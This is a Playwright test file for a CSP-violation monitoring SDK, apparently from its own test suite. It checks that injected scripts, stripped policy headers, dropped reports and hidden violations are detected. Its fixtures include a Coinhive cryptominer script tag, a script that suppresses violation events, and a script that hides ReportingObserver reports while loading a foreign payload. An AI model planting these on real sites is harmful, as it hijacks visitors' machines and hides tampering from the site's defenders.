import { expect, MODES, test } from '../support/engine-fixtures.js';
import type { Verdict } from '../support/verdict.js';

/**
 * What a visitor is told, in each engine (one Playwright project each) and each mode: the demo's
 * policy report-only, and the strict nonce-based policy enforced. Every tampering happens on the
 * wire (tampering-proxy.ts), the same way in every engine. docs/engines.md has the matrix of what
 * each engine witnesses.
 */

const kinds = (verdict: Verdict) => verdict.anomalies.map((a) => `${a.kind} ${a.severity}`);

/** What a malicious extension or adware adds to the page: a crypto-miner (a default rule names its host). */
const MINER = '<script src="https://coinhive.com/lib/coinhive.min.js"></script>';

/** What a hiding extension does before the page's own scripts: a capturing window listener, first, that stops every event. */
const SUPPRESS_EVENTS = `<script nonce="{{nonce}}">window.addEventListener('securitypolicyviolation', function (e) { e.stopImmediatePropagation(); }, true);</script>`;

for (const mode of MODES) {
  test.describe(`${mode}`, () => {
    test('a clean page is clean with no anomaly, 20 loads of 20', async ({ visitor, site }) => {
      // Twenty page views one after another, each followed to its final verdict: Firefox takes
      // 0.6-1.5 s a view on the 2-core machine (its native canary report comes last), so more than
      // the default 30 s.
      test.setTimeout(90_000);
      const s = site(mode);
      const seen: string[] = [];
      for (let i = 0; i < 20; i++) {
        await visitor.open(`${s.origin}/`);
        const verdict = await s.finalVerdict(await visitor.sessionToken());
        seen.push(`${verdict.status} ${JSON.stringify(kinds(verdict))} unknown=${verdict.unknown}`);
      }
      expect(seen).toEqual(Array(20).fill('clean [] unknown=0'));
      // The popup says so, in the visitor's engine.
      await expect.poll(() => visitor.popupStatus()).toBe('No problems detected');
    });

    test('an injected known-bad script is one problem, counted once, and the popup names it', async ({ visitor, site }) => {
      const s = site(mode);
      await visitor.open(`${await s.tamper({ inject: { at: 'head-end', html: MINER } })}/`);
      const token = await visitor.sessionToken();
      const verdict = await s.finalVerdict(token);
      expect(verdict).toMatchObject({ status: 'problems', anomalies: [], unknown: 0 });
      expect(verdict.problems.map((p) => `${p.ruleId} x${p.count}`)).toEqual(['malware.cryptominer x1']);
      await expect.poll(() => visitor.popupStatus()).toBe('Detected 1 problem');
      expect(await visitor.popupText()).toContain('Cryptocurrency miner');
      // Seen by the page and by the browser's own report (WebKit: twice each, its preload scanner and its parser), paired as one.
      const channels = async () =>
        [...new Set((await s.reports(token)).filter((r) => r.ruleId === 'malware.cryptominer').map((r) => r.channel))].sort();
      await expect.poll(channels).toEqual(['report-uri', 'sdk']);
      expect((await s.finalVerdict(token)).problems.map((p) => `${p.ruleId} x${p.count}`)).toEqual(['malware.cryptominer x1']);
    });

    test('over HTTPS with the Reporting API too: the injected script is one problem, the page otherwise clean', async ({
      visitor,
      site,
    }) => {
      const s = site(mode, true);
      await visitor.open(`${await s.tamper({ inject: { at: 'head-end', html: MINER } })}/`);
      const token = await visitor.sessionToken();
      const verdict = await s.finalVerdict(token);
      expect(verdict).toMatchObject({ status: 'problems', anomalies: [], unknown: 0 });
      expect(verdict.problems.map((p) => `${p.ruleId} x${p.count}`)).toEqual(['malware.cryptominer x1']);
      // Stored without the default port, whichever channel (WebKit writes `:443` when the policy has report-to).
      const blocked = async () =>
        [
          ...new Set((await s.reports(token)).filter((r) => r.ruleId === 'malware.cryptominer').map((r) => `${r.channel} ${r.blockedUri}`)),
        ].sort();
      await expect
        .poll(blocked)
        .toEqual(['report-to https://coinhive.com/lib/coinhive.min.js', 'sdk https://coinhive.com/lib/coinhive.min.js']);
      expect((await s.finalVerdict(token)).problems.map((p) => `${p.ruleId} x${p.count}`)).toEqual(['malware.cryptominer x1']);
    });

    test('a policy header stripped on the way: the policy is not in force', async ({ visitor, site }) => {
      const s = site(mode);
      await visitor.open(`${await s.tamper({ stripPolicy: true })}/`);
      const verdict = await s.finalVerdict(await visitor.sessionToken());
      expect(verdict.status).toBe('problems');
      expect(kinds(verdict)).toEqual(['policy-not-enforced warning']);
      await expect.poll(() => visitor.popupStatus()).toBe('Detected 1 problem');
    });

    test("the browser's reports held back (as privacy tools do): said calmly, and the page stays clean", async ({ visitor, site }) => {
      const s = site(mode);
      await visitor.open(`${await s.tamper({ dropReports: true })}/`);
      const verdict = await s.finalVerdict(await visitor.sessionToken());
      expect(verdict).toMatchObject({ status: 'clean', problems: [], unknown: 0 });
      expect(kinds(verdict)).toEqual(['reports-blocked notice']);
      await expect.poll(() => visitor.popupStatus()).toBe('No problems detected');
    });

    test('violation events suppressed by an earlier script: events are hidden', async ({ visitor, site }) => {
      const s = site(mode);
      await visitor.open(`${await s.tamper({ inject: { at: 'head-start', html: SUPPRESS_EVENTS } })}/`);
      const verdict = await s.finalVerdict(await visitor.sessionToken());
      expect(verdict.status).toBe('problems');
      expect(kinds(verdict)).toEqual(['events-suppressed warning']);
    });

    test('a forbidden script that ran with every report of it hidden: hidden content (report-only), or nothing ran (enforced)', async ({
      visitor,
      site,
      foreignOrigin,
    }) => {
      const s = site(mode);
      const foreign = `${foreignOrigin}/payload.js`;
      // A tampering extension that hides its own violations from every channel, and nothing else.
      const hider = `<script nonce="{{nonce}}">(function () {
        var hidden = function (url) { return String(url || '').indexOf(${JSON.stringify(`${foreignOrigin}/`)}) === 0; };
        window.addEventListener('securitypolicyviolation', function (e) { if (hidden(e.blockedURI)) e.stopImmediatePropagation(); }, true);
        var Original = window.ReportingObserver;
        if (Original) window.ReportingObserver = function (callback, options) {
          return new Original(function (reports, observer) { callback(reports.filter(function (r) { return !hidden(r.body && r.body.blockedURL); }), observer); }, options);
        };
        document.addEventListener('DOMContentLoaded', function () {
          var script = document.createElement('script');
          script.src = ${JSON.stringify(foreign)};
          document.head.appendChild(script);
        });
      })();</script>`;
      const origin = await s.tamper({
        inject: { at: 'head-start', html: hider },
        dropReports: (body) => body.includes(`${foreignOrigin}/`),
      });
      await visitor.open(`${origin}/`);
      const token = await visitor.sessionToken();
      if (mode === 'enforced') {
        const verdict = await s.finalVerdict(token);
        expect(verdict).toMatchObject({ status: 'clean', anomalies: [] });
        return;
      }
      // The tripwire judges an element once it loaded and its reports had time to come.
      await expect.poll(async () => kinds(await s.finalVerdict(token)), { timeout: 15_000 }).toEqual(['hidden-content warning']);
    });
  });
}

test.describe('both channels', () => {
  /** What examples/basic-site's /violations page provokes, as [directive, blocked]; WebKit reports no eval under a report-only policy. */
  const violations = (engine: string) =>
    [
      'img-src https://metrics.adware.invalid/metric/',
      'script-src-elem inline',
      'script-src-elem https://ads.injector.invalid/inject.js',
      'style-src-elem inline',
      'style-src-attr inline',
      ...(engine === 'webkit' ? [] : ['script-src eval']),
    ].sort();

  test('every violation arrives by the SDK and by the browser, paired: each counted once; the adware beacon is named', async ({
    visitor,
    site,
  }) => {
    const s = site('report-only');
    await visitor.open(`${s.origin}/violations`);
    const token = await visitor.sessionToken();
    const expected = violations(visitor.engine);
    const seen = (channel: string) => async () =>
      [
        ...new Set(
          (await s.reports(token))
            .filter((r) => r.reportType === 'csp-violation' && r.channel === channel)
            .map((r) => `${r.effectiveDirective} ${r.blockedUri}`),
        ),
      ].sort();
    await expect.poll(seen('sdk')).toEqual(expected);
    await expect.poll(seen('report-uri')).toEqual(expected);
    const rows = (await s.reports(token)).filter((r) => r.reportType === 'csp-violation');
    const fingerprints = (channel: string) => new Set(rows.filter((r) => r.channel === channel).map((r) => r.fingerprint));
    expect(fingerprints('sdk')).toEqual(fingerprints('report-uri'));
    const verdict = await s.finalVerdict(token);
    // The beacon's rule needs its query string, which storage drops: the rule that matched it on arrival stands.
    expect(verdict).toMatchObject({ status: 'problems', anomalies: [], unknown: expected.length - 1 });
    expect(verdict.problems.map((p) => `${p.ruleId} x${p.count}`)).toEqual(['malware.monetizus-signature x1']);
    await expect.poll(() => visitor.popupStatus()).toBe('Detected 1 problem');
  });
});

test.describe('under the strict nonce-based policy, enforced', () => {
  test('the SDK and its popup cause no violation of their own: the canary is the only one, on purpose', async ({ visitor, site }) => {
    const s = site('enforced');
    await visitor.open(`${s.origin}/`);
    const token = await visitor.sessionToken();
    await expect.poll(() => visitor.popupStatus()).toBe('No problems detected');
    // Styled by its adopted stylesheet (no <style>, no style attribute): rounded, not the browser's defaults.
    const radius = await visitor.run<string>(
      "return getComputedStyle(document.querySelector('csp-observer-popup').shadowRoot.querySelector('section')).borderTopLeftRadius",
    );
    expect(radius).not.toBe('0px');
    expect(await s.finalVerdict(token)).toMatchObject({ status: 'clean', unknown: 0 });
    // The canary's event may leave in the batch after its outcome's.
    await expect
      .poll(async () => (await s.reports(token)).map((r) => `${r.channel} ${r.reportType}`).sort())
      .toEqual(['report-uri csp-canary', 'sdk csp-canary']);
  });
});
